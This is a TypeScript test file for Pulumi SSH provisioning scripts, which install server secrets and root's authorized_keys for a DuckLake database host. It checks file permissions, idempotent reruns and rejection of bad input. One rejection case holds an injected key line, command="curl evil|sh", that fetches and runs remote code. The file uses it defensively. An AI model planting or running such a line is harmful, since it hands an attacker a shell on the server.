// Contract test of the remote commands (@pulumi/command remote.Command runs `create` through the server's
// shell over SSH and writes `stdin` to it). SSH and the Hetzner server cannot run here; the scripts run
// with bash against temporary directories, fed the exact stdin the program renders.
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { spawnSync } from "child_process";
import { renderAuthorizedKeys, renderProvisionCommand, renderServerSecrets } from "../../model/cloudInit";
import { loadAuthorizedKeysScript, loadServerScripts } from "../../templates/load";

const scripts = loadServerScripts();
const work = fs.mkdtempSync(path.join(os.tmpdir(), "ducklake-command-"));
afterAll(() => fs.rmSync(work, { recursive: true, force: true }));

const keyPem = `-----BEGIN EC PRIVATE KEY-----\n${"S0VZ".repeat(16)}\n-----END EC PRIVATE KEY-----\n`;
const secrets = {
  adminPassword: "Adm1nPassw0rdAdm1nPassw0rd",
  serverKeyPem: keyPem,
  backup: {
    catalogDatabase: "ducklake",
    bucket: "acme-lake",
    prefix: "backups/",
    endpoint: "https://fsn1.your-objectstorage.com",
    region: "fsn1",
    accessKey: "BACKUPKEY0000000001",
    secretKey: "s3cret/Key+With=Chars",
    hourUtc: 3,
  },
};

/** Runs receive-secrets.sh as the provisioning command would (stdin = rendered secrets); setup is a probe. */
function receive(stdin: string) {
  const etc = fs.mkdtempSync(path.join(work, "etc-"));
  const probe = path.join(etc, "setup-ran");
  // The probe stands in for ducklake-setup (installs PostgreSQL): it records which files existed when it ran.
  const setup = path.join(etc, "setup.sh");
  fs.writeFileSync(setup, `#!/usr/bin/env bash\nls "${etc}" "${etc}/tls" > "${probe}"\n`, { mode: 0o755 });
  const r = spawnSync("bash", ["-c", scripts.receiveSecrets], {
    input: stdin,
    encoding: "utf8",
    env: { ...process.env, SKIP_CLOUD_INIT_WAIT: "1", DUCKLAKE_ETC: etc, DUCKLAKE_SETUP: setup },
  });
  return { ...r, etc, setupRan: fs.existsSync(probe) ? fs.readFileSync(probe, "utf8") : undefined };
}
const mode = (f: string) => (fs.statSync(f).mode & 0o777).toString(8);

describe("provisioning command (receive-secrets.sh, the `…-postgres-ready` command's first part)", () => {
  it("installs the secrets from stdin root-only, byte for byte, then runs the setup", () => {
    const r = receive(renderServerSecrets(secrets));
    expect([r.status, r.stderr]).toEqual([0, ""]);
    expect(fs.readFileSync(path.join(r.etc, "admin.env"), "utf8")).toBe(`ADMIN_PASSWORD=${secrets.adminPassword}\n`);
    expect(fs.readFileSync(path.join(r.etc, "backup.env"), "utf8")).toContain(
      "AWS_ACCESS_KEY_ID=BACKUPKEY0000000001\nAWS_SECRET_ACCESS_KEY=s3cret/Key+With=Chars\n",
    );
    expect(fs.readFileSync(path.join(r.etc, "tls", "server.key"), "utf8")).toBe(keyPem);
    for (const f of ["admin.env", "backup.env", "tls/server.key"]) expect([f, mode(path.join(r.etc, f))]).toEqual([f, "600"]);
    expect(r.setupRan).toMatch(/admin\.env[\s\S]*backup\.env[\s\S]*server\.key/);
  });

  it("is idempotent: a second run (e.g. a rotated backup key) replaces the files", () => {
    const first = receive(renderServerSecrets(secrets));
    const again = spawnSync("bash", ["-c", scripts.receiveSecrets], {
      input: renderServerSecrets({ ...secrets, backup: { ...secrets.backup, secretKey: "r0tated/Secret+Key=x" } }),
      encoding: "utf8",
      env: { ...process.env, SKIP_CLOUD_INIT_WAIT: "1", DUCKLAKE_ETC: first.etc, DUCKLAKE_SETUP: "true" },
    });
    expect(again.status).toBe(0);
    expect(fs.readFileSync(path.join(first.etc, "backup.env"), "utf8")).toContain("AWS_SECRET_ACCESS_KEY=r0tated/Secret+Key=x\n");
    expect(fs.readdirSync(first.etc).filter((f) => f.includes(".env."))).toEqual([]); // no temp files left
  });

  it("refuses unexpected, missing or undecodable input and does not run the setup", () => {
    const good = renderServerSecrets(secrets).trimEnd().split("\n");
    for (const [input, why] of [
      [[...good, "EVIL=Zm9v"].join("\n") + "\n", /unexpected input line starting EVIL/],
      [good.slice(0, 2).join("\n") + "\n", /SERVER_KEY missing on stdin/],
      [["ADMIN_ENV=***not base64***", ...good.slice(1)].join("\n") + "\n", /ADMIN_ENV is not base64/],
    ] as const) {
      const r = receive(input);
      expect([r.status, r.setupRan]).toEqual([1, undefined]);
      expect(r.stderr).toMatch(why);
    }
  });

  it("is the first part of the rendered command, before the TLS readiness check", () => {
    const cmd = renderProvisionCommand("198.51.100.10", scripts, 60);
    expect(cmd.indexOf(scripts.receiveSecrets)).toBeGreaterThan(0);
    expect(cmd.indexOf(scripts.tlsReady)).toBeGreaterThan(cmd.indexOf(scripts.receiveSecrets));
    expect(spawnSync("bash", ["-n", "-c", cmd]).status).toBe(0);
  });
});

describe("authorized-keys command (install-authorized-keys.sh)", () => {
  const operator = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB6vLTUhrAjb9jSXXHbSjeDM5R4pYuBnWXbC1rXmlWcL me@laptop";
  const deploy = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDeployKeyOfTheProgram000000000000000000";
  const run = (sshDir: string, stdin: string) =>
    spawnSync("bash", ["-c", loadAuthorizedKeysScript()], { input: stdin, encoding: "utf8", env: { ...process.env, SSH_DIR: sshDir } });

  it("writes root's authorized_keys (mode 600) from the rendered keys; a rotation replaces the operator key", () => {
    const sshDir = path.join(work, "ssh-a");
    expect(run(sshDir, renderAuthorizedKeys([operator, deploy])).status).toBe(0);
    expect(fs.readFileSync(path.join(sshDir, "authorized_keys"), "utf8")).toBe(`${operator}\n${deploy}\n`);
    expect(mode(path.join(sshDir, "authorized_keys"))).toBe("600");
    const rotated = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINewOperatorKey00000000000000000000000000 me@new";
    expect(run(sshDir, renderAuthorizedKeys([rotated, deploy])).status).toBe(0);
    expect(fs.readFileSync(path.join(sshDir, "authorized_keys"), "utf8")).toBe(`${rotated}\n${deploy}\n`);
  });

  it("keeps the current file when stdin is empty or not public keys (nobody gets locked out)", () => {
    const sshDir = path.join(work, "ssh-b");
    run(sshDir, renderAuthorizedKeys([operator, deploy]));
    for (const bad of ["", "-----BEGIN OPENSSH PRIVATE KEY-----\n", `${operator}\ncommand="curl evil|sh" ssh-ed25519 AAAA\n`]) {
      const r = run(sshDir, bad);
      expect(r.status).toBe(1);
      expect(r.stderr).toMatch(/authorized_keys unchanged/);
      expect(fs.readFileSync(path.join(sshDir, "authorized_keys"), "utf8")).toBe(`${operator}\n${deploy}\n`);
    }
    expect(fs.readdirSync(sshDir)).toEqual(["authorized_keys"]);
  });
});
